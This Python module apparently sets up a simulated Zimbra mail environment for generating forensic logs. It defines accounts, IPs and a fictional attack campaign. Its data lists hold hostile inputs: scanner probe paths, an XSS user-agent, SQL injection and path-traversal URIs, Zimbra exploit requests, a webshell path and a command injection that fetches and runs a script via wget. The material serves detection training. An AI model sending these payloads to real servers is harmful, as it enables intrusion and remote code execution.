"""The world of the example: domains, nodes and their IPs, the accounts and their habits, and the
vocabularies the scenario draws from (browsers, devices, names, partners, attack infrastructure).

    >>> import random
    >>> [a.name for a in make_accounts(random.Random(1), 2)][0].endswith(tuple(DOMAINS))
    True
"""

from __future__ import annotations

import random

# ----------------------------------------------------------------------------------------------
# Infrastructure
# ----------------------------------------------------------------------------------------------

TZ_NAME = "Europe/Paris"
ZCS = "10.1.4_GA_4200"
PUBLIC_HOST = "mail.example.gov"
DOMAINS = ["example.gov", "agency.example.gov"]
PROXY = {"proxy01": "10.0.0.10"}
PROXY_IP = "10.0.0.10"
STORES = {"mbx01": "10.0.1.11", "mbx02": "10.0.1.12"}
MTA = {"mta01": "10.0.2.21"}
MTA_IP = "10.0.2.21"
NGINX_VIA = f"{PROXY_IP}(nginx/1.24.0)"
QTP = {"mbx01": "qtp1394336709", "mbx02": "qtp2083117811"}
AMAVIS_LOG_LEVEL = 3
SPAM_TAG2, SPAM_KILL = 6.6, 15.0  # zimbraSpamTagPercent / KillPercent of 20

OFFICE_NAT = "192.0.2.10"
CARRIER_IPS = ["100.64.17.3", "100.64.92.41", "100.65.8.200", "100.66.140.9"]
HOME_PREFIXES = ["78.192.", "82.64.", "86.245.", "90.12.", "176.134.", "109.24."]

# Attack campaign: spray from three addresses, logins also from a fourth.
SPRAY_SOAP_IP, SPRAY_IMAP_IP, SPRAY_SMTP_IP = "203.0.113.45", "198.51.100.23", "203.0.113.77"
LOGIN_ONLY_IP = "198.51.100.61"
ATTACKER_IPS = [SPRAY_SOAP_IP, SPRAY_IMAP_IP, SPRAY_SMTP_IP, LOGIN_ONLY_IP]
SECOND_CAMPAIGN_IP = "198.51.100.150"  # unrelated IMAP spray, no success
SPOOF_IPS = ["198.51.100.201", "198.51.100.202", "203.0.113.210"]
SCANNER_IP, EXPLOIT_IP = "203.0.113.150", "198.51.100.77"

SPRAY_UA = "python-requests/2.31.0"
ATTACKER_BROWSER = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0",
                    f"ZimbraWebClient - FF91 (Win)/{ZCS}")
ATTACKER_DEVICE = ("androidc1873361592", "Android", "Android/13-EAS-2.0")
HOSTILE_UA = 'Mozilla/5.0 <img src=x onerror=alert(1)>" Chrome/99'
SCANNER_UA = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
EXPLOIT_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:101.0) Gecko/20100101 Firefox/101.0"

MOBILE_BROWSERS = [  # webmail on a phone, through a mobile carrier's CGNAT
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
     f"ZimbraWebClient - SAF17 (iPhone)/{ZCS}"),
    ("Mozilla/5.0 (Linux; Android 14; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile Safari/537.36",
     f"ZimbraWebClient - GC129 (Android)/{ZCS}"),
]
BROWSERS = [  # (HTTP User-Agent, SOAP <userAgent> written by the web client)
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
     f"ZimbraWebClient - FF128 (Win)/{ZCS}"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
     f"ZimbraWebClient - GC129 (Win)/{ZCS}"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
     f"ZimbraWebClient - SAF17 (Mac)/{ZCS}"),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
     f"ZimbraWebClient - FF128 (Linux)/{ZCS}"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0",
     f"ZimbraWebClient - EDGE129 (Win)/{ZCS}"),
]
IMAP_CLIENTS = ["Thunderbird/115.3", "Thunderbird/128.2.3", "Microsoft Outlook/16.0", "AquaMail/1.51.0"]
DEVICES = [("Appl", "iPhone", "Apple-iPhone15C2/2107.72"), ("SEC", "SAMSUNGSMS911B", "SAMSUNG-SM-S911B/101.140101"),
           ("Appl", "iPad", "Apple-iPad13C1/2107.72"), ("android", "Android", "Android/14-EAS-2.0")]

FIRST = ["alice", "bruno", "camille", "david", "emma", "fabien", "gaelle", "hugo", "ines", "julien",
         "karine", "louis", "manon", "nicolas", "oceane", "paul", "quentin", "romain", "sophie", "thomas",
         "ursule", "valerie", "william", "xavier", "yasmine", "zoe", "antoine", "claire", "denis", "elise"]
LAST = ["martin", "bernard", "dubois", "thomas", "robert", "richard", "petit", "durand", "leroy", "moreau",
        "simon", "laurent", "lefebvre", "michel", "garcia", "david", "bertrand", "roux", "vincent", "fournier"]
SPRAY_GUESSES = ["admin", "info", "contact", "support", "test", "webmaster", "rh", "compta", "direction", "accueil"]

PARTNERS = [  # (sender domain, sending MTA host, IP, message-id style)
    ("gmail.com", "mail-wm1-f54.google.com", "209.85.128.54", "gmail"),
    ("outlook.fr", "mail-db8eur05on2062.outbound.protection.outlook.com", "40.107.22.62", "hex"),
    ("partner.example.org", "mx1.partner.example.org", "192.0.2.77", "hex"),
    ("fournisseur.example.net", "smtp.fournisseur.example.net", "192.0.2.140", "java"),
    ("prefecture.example.fr", "relay.prefecture.example.fr", "192.0.2.201", "java"),
]
REMOTE_MX = {"gmail.com": ("gmail-smtp-in.l.google.com", "142.250.102.27"),
             "outlook.fr": ("outlook-fr.olc.protection.outlook.com", "52.101.68.13"),
             "partner.example.org": ("mx1.partner.example.org", "192.0.2.77"),
             "fournisseur.example.net": ("mx.fournisseur.example.net", "192.0.2.141"),
             "prefecture.example.fr": ("relay.prefecture.example.fr", "192.0.2.201"),
             "yandex.example.com": ("mx.yandex.example.com", "203.0.113.98"),
             "mail.example.ru": ("mx.mail.example.ru", "198.51.100.99")}
DROP_DOMAINS = ["yandex.example.com", "mail.example.ru"]  # attacker-controlled mailboxes

NEWSLETTER = {"sender": "lettre@veille.example.org", "host": "out.veille.example.org", "ip": "192.0.2.90",
              "filename": "Veille_juridique_octobre.pdf", "size": 84172}
PHISH = {"sender": "facturation@portail-factures.example.com", "host": "mail.portail-factures.example.com",
         "ip": "203.0.113.120", "filename": "Facture_2026.html", "size": 18234}

BENIGN_SOAP = [("SearchRequest", 30), ("GetMsgRequest", 20), ("NoOpRequest", 14), ("SearchConvRequest", 8),
               ("GetConvRequest", 8), ("MsgActionRequest", 5), ("GetFolderRequest", 4), ("ConvActionRequest", 3),
               ("AutoCompleteRequest", 3), ("SaveDraftRequest", 2), ("GetContactsRequest", 2), ("SendMsgRequest", 3)]

SCANNER_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/",
                 "/admin.php", "/server-status", "/config.json", "/backup.zip", "/.aws/credentials",
                 "/actuator/env", "/console/login/LoginForm.jsp", "/owa/auth/logon.aspx", "/ecp/Current/exporttool/",
                 "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale",
                 "/solr/admin/info/system", "/api/v1/pods", "/remote/login", "/global-protect/login.esp",
                 "/index.php?s=/index/think%5Capp/invokefunction", "/boaform/admin/formLogin", "/HNAP1/",
                 "/jenkins/login", "/manager/html", "/.DS_Store", "/sitemap.xml.gz", "/web.config", "/.htaccess",
                 "/druid/index.html", "/geoserver/web/", "/webui/", "/mifs/.;/services/LogService",
                 "/zimbra/h/search?action=x", "/zimbra/downloads/index.html", "/service/upload?lbfums=",
                 "/zimbraAdmin/public/secureRequest.jsp", "/Microsoft-Server-ActiveSync/../../etc/passwd",
                 "/home/~/?auth=co&loc=en_US&fmt=tgz", "/_profiler/phpinfo", "/info.php", "/test.php",
                 "/login.action", "/struts2-showcase/", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "/robots.txt.bak",
                 "/xmlrpc.php", "/owa/", "/autodiscover/autodiscover.json?@zdi/Powershell", "/.svn/entries",
                 "/dns-query", "/v2/_catalog", "/telescope/requests", "/debug/default/view", "/api/jsonws/invoke",
                 "/cf_scripts/scripts/ajax/ckeditor/ckeditor.js", "/hudson", "/CFIDE/administrator/", "/.well-known/security.txt.bak"]
EXPLOITS = [  # (method, uri, status, bytes) from EXPLOIT_IP, in order
    ("POST", "/service/extension/backup/mboximport?account-name=admin&ow=1&no-switch=true", 401, 299),
    ("POST", "/service/extension/backup/mboximport?account-name=admin&account-status=1&ow=cmd", 401, 299),
    ("POST", "/Autodiscover/Autodiscover.xml", 503, 312),
    ("GET", "/service/proxy?target=https://127.0.0.1:7071/service/admin/soap", 500, 1210),
    ("GET", "/public/jsp/x.jsp", 404, 1024),
    ("GET", "/zimbraAdmin/cmd.jsp?cmd=id", 404, 1024),
    ("GET", "/zimbraAdmin/public/jsp/Startup.jsp", 404, 1024),
    ("GET", "/service/zimlet/res/..%2f..%2f..%2f..%2fetc%2fpasswd", 400, 442),
    ("GET", "/service/home/~/?auth=co&id=1%27%20OR%20%271%27%3D%271&fmt=tgz", 401, 310),
    ("GET", "/zimbra/h/search?si=1&so=0&sc=709&st=message&q=%3Bcat%20/etc/passwd", 302, 0),
    ("GET", "/service/soap/?cmd=$(wget%20http://198.51.100.77/x.sh%7Csh)", 500, 512),
    ("POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1", 200, 54),
]
WEBSHELL = "/public/jsp/Startup1_3.jsp"


# ----------------------------------------------------------------------------------------------
# The world: accounts and their habits
# ----------------------------------------------------------------------------------------------

class Account:
    def __init__(self, name: str, store: str, mid: int, uuid: str):
        self.name, self.store, self.mid, self.uuid = name, store, mid, uuid
        self.local, self.domain = name.split("@")
        self.items = 256  # next mail item id
        self.home_ip = ""
        self.browser = BROWSERS[0]
        self.imap_ua = ""
        self.device: tuple[str, str, str] | None = None  # (DeviceId, DeviceType, UA)
        self.carrier_ip = ""


def make_uuid(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


def make_accounts(rng: random.Random, n: int) -> list[Account]:
    names, accounts, mids = set(), [], {s: 2 for s in STORES}
    while len(names) < n:
        first, last = rng.choice(FIRST), rng.choice(LAST)
        domain = DOMAINS[1] if rng.random() < 0.25 else DOMAINS[0]
        name = f"{first}.{last}@{domain}"
        if name in names:
            name = f"{first}.{last}{rng.randint(2, 99)}@{domain}"
            if name in names:
                continue
        names.add(name)
        store = sorted(STORES)[len(accounts) % 2]
        mids[store] += 1
        acct = Account(name, store, mids[store], make_uuid(rng))
        acct.home_ip = OFFICE_NAT if rng.random() < 0.45 else rng.choice(HOME_PREFIXES) + f"{rng.randint(1, 254)}.{rng.randint(1, 254)}"
        acct.browser = rng.choice(BROWSERS)
        if rng.random() < 0.3:
            acct.imap_ua = rng.choice(IMAP_CLIENTS)
        if rng.random() < 0.25:
            prefix, dtype, dua = rng.choice(DEVICES)
            dev_id = f"androidc{rng.randint(10**9, 10**10 - 1)}" if prefix == "android" else f"{prefix}{rng.getrandbits(48):012X}"
            acct.device = (dev_id, dtype, dua)
            acct.carrier_ip = rng.choice(CARRIER_IPS)
        elif rng.random() < 0.6:  # reads webmail on a phone: behind the carrier's CGNAT, shared by many
            acct.carrier_ip = rng.choice(CARRIER_IPS)
        accounts.append(acct)
    return accounts
